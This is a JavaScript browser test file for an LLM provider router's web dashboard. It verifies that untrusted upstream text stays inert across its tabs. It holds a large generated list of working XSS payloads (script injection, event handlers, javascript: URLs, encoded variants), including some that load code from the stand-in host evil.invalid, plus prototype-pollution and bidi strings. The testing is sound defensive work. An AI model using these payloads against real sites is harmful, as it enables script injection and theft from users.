// Whatever providers, clients and upstreams call themselves: it is only text.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { answerWith, openPage, overflow } from './support/browser.mjs';
import { failWith, Provider } from './support/provider.mjs';
import { Router } from './support/router.mjs';
import { busyStatus, configured, provider, sampleAnalytics, sampleRecent, statusOf } from './support/samples.mjs';

const kCall = ['alert(1)', 'alert`1`', 'top.x=1', 'import("//evil.invalid")'];
const kPayloads = [
  ...kCall.flatMap((call) => [
    `<script>${call}</script>`,
    `</script><script>${call}</script>`,
    `<img src=x onerror=${call}>`,
    `"><img src=x onerror=${call}>`,
    `'><svg onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<body onload=${call}>`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<iframe src="javascript:${call}">`,
    `<a href="javascript:${call}">x</a>`,
    `javascript:${call}`,
    `<details open ontoggle=${call}>`,
    `<video><source onerror=${call}></video>`,
    `<input autofocus onfocus=${call}>`,
    `<marquee onstart=${call}>`,
    `<math><mtext><script>${call}</script></mtext></math>`,
    `<form action="javascript:${call}"><button>x</button></form>`,
    `<object data="javascript:${call}">`,
    `<embed src="javascript:${call}">`,
    `<link rel=stylesheet href="javascript:${call}">`,
    `<style>*{background:url("javascript:${call}")}</style>`,
    `<base href="//evil.invalid/">${call}`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<template><script>${call}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<!--><img src=x onerror=${call}>-->`,
    `]]><img src=x onerror=${call}>`,
    `{{constructor.constructor("${call}")()}}`,
    `\${${call}}`,
    `<x style="animation:x" onanimationstart=${call}>`,
    `<select><option><img src=x onerror=${call}></select>`,
    `<textarea></textarea><img src=x onerror=${call}>`,
    `%3Cimg src=x onerror=${call}%3E`,
    `&lt;img src=x onerror=${call}&gt;`,
    `\\u003cimg src=x onerror=${call}\\u003e`,
    `<img src="x" onerror="${call}" `,
    `<svg/onload=${call}//`,
    `<img/src/onerror=${call}>`,
    `<a href="data:text/html,<script>${call}</script>">x</a>`,
    `<img srcset="//evil.invalid/x 1x" onload=${call}>`,
    `<div style="background:url(//evil.invalid/x)">${call}</div>`,
    `<use href="data:image/svg+xml,<svg onload=${call}>">`,
    `<portal src="javascript:${call}">`,
    `<button popovertarget=x onclick=${call}>`,
    `<dialog open onclose=${call}>`,
    `<img src=x:x onerror=${call}>`,
    `<audio src=x onerror=${call}>`,
    `<p onmouseover=${call}>x</p>`,
  ]),
  '__proto__',
  'constructor',
  'toString',
  '\u202egnp.exe',
  'a\u0000b\u001b[31m',
  '\u2066x\u2069',
  '\ud800',
  '%s%n%x',
];
assert.ok(kPayloads.length >= 200);

async function start(t, options = {}) {
  const upstream = await Provider.start(t);
  const router = await Router.start(t, { openai: [upstream.entry('only', 1)] });
  return { upstream, router, page: await openPage(t, options) };
}

// All in one page: as name, URL, model, error and reason.
function hostileStatus() {
  const entries = kPayloads.map((text, index) => [
    configured(text, index + 1, text, { model_mapping: { [text]: text }, models: [text] }),
    provider(5, {
      error: text,
      asked: 10,
      succeeded: 100,
      rate_limits: {
        in_cooldown: index % 2 === 0,
        cooldown_remaining_seconds: 60,
        cooldown_reason: text,
        cooling_models: [{ model: text, remaining_seconds: 9 }],
      },
    }),
  ]);
  const fallbacks = kPayloads.map((text, index) => ({
    time: new Date().toISOString(),
    request_id: `${index} ${text}`,
    endpoint: text,
    model: text,
    from: text,
    to: text,
    reason: text,
  }));
  return statusOf({ openai: entries }, { version: kPayloads[2], config_error: kPayloads[3], recent_fallbacks: fallbacks });
}

test('TextFromOutsideIsInertInTheStatusTab', async (t) => {
  const { router, page } = await start(t);
  await answerWith(page, { '/status': hostileStatus });
  await page.goto(`${router.url}/web`);
  await page.locator('article.provider').nth(kPayloads.length - 1).waitFor();
  const shown = await page.locator('article.provider h3').allTextContents();
  assert.ok(shown.includes(kPayloads[0]));
  assert.ok(shown.includes('\\u202egnp.exe'));
  for (const number of [0, 2, 9]) {
    await page.locator('article.provider .disclosure').nth(number).click();
  }
  const strange = await page.evaluate(
    () => document.querySelectorAll('#app :is(img, script, iframe, object, embed, style, base, meta, form, video, audio, math, marquee)').length,
  );
  assert.equal(strange, 0);
  assert.equal(await page.evaluate(() => globalThis.x), undefined);
  assert.equal(await overflow(page), 0);
});

test('TextFromOutsideIsInertInTheOtherTabs', async (t) => {
  const { router, page } = await start(t);
  const exchanges = kPayloads.map((text, index) => ({
    ...sampleRecent().exchanges[2],
    request_id: `${index}`,
    model: text,
    provider: text,
    endpoint: text,
    error: text,
    finish_reason: text,
    outcome: index % 2 ? text : 'failure',
    attempts: [{ provider: text, began_ms: 0, waited_ms: 1, duration_ms: 5, outcome: text, status: 500, error: text }],
    skipped: [{ provider: text, why: text }],
  }));
  const summary = kPayloads.map((text) => ({
    ...sampleAnalytics('/summary', new URLSearchParams())[0],
    provider_type: text,
    provider_name: text,
    min_timestamp: text,
  }));
  await answerWith(page, {
    '/recent': () => ({ capacity: 500, remembered: 500, exchanges }),
    '/analytics/summary': () => summary,
    '/analytics/': (url) =>
      url.pathname.endsWith('/summary') ? undefined : sampleAnalytics(url.pathname, url.searchParams),
  });
  await answerWith(page, { '/analytics/summary': () => summary });
  await page.goto(`${router.url}/web#requests`);
  await page.locator('article.exchange').nth(50).waitFor();
  await page.locator('article.exchange .disclosure').nth(2).click();
  assert.equal(await overflow(page), 0);
  await page.getByRole('tab', { name: 'Analytics' }).click();
  await page.locator('.summary tbody tr').nth(50).waitFor();
  assert.equal(await page.evaluate(() => document.querySelectorAll('#app :is(img, script, iframe)').length), 0);
  assert.equal(await overflow(page), 0);
});

test('UpstreamsOwnErrorIsShownAsItCame', async (t) => {
  const { upstream, router, page } = await start(t);
  upstream.answer = failWith(500, '<img src=x onerror=alert(1)> \u202e oops');
  await router.chat('<script>alert(1)</script>');
  await page.goto(`${router.url}/web`);
  await page.locator('.reason', { hasText: '<img src=x onerror=alert(1)> \\u202e oops' }).waitFor();
  await page.getByRole('tab', { name: 'Requests' }).click();
  await page.locator('.model', { hasText: '<script>alert(1)</script>' }).waitFor();
});

test('TenThousandCharactersStayInTheirPlace', async (t) => {
  const { router, page } = await start(t, { viewport: { width: 360, height: 740 } });
  const long = 'x'.repeat(10_000);
  const status = statusOf({
    openai: [[configured(long, 1, long), provider(5, { error: long, asked: 10, succeeded: 100 })]],
  });
  await answerWith(page, { '/status': () => status });
  await page.goto(`${router.url}/web`);
  await page.locator('.reason').waitFor();
  assert.equal(await overflow(page), 0);
  const reason = await page.locator('.reason').boundingBox();
  assert.ok(reason.height < 120, `the reason is ${reason.height} high`);
});

test('AnswersOfAnotherShapeBreakNothing', async (t) => {
  const { router, page } = await start(t);
  for (const document of [{}, [], { config: 7, statistics: { openai: { providers: [] } } }, { config: { openai: { providers: [null, 3, {}] } } }]) {
    await page.unrouteAll();
    await answerWith(page, { '/status': () => document, '/recent': () => document, '/analytics/': () => document });
    for (const tab of ['status', 'analytics', 'requests']) {
      await page.goto('about:blank');
      await page.goto(`${router.url}/web#${tab}`);
      await page.getByText('updated now').waitFor();
    }
  }
  await page.unrouteAll();
  await answerWith(page, { '/status': busyStatus });
});
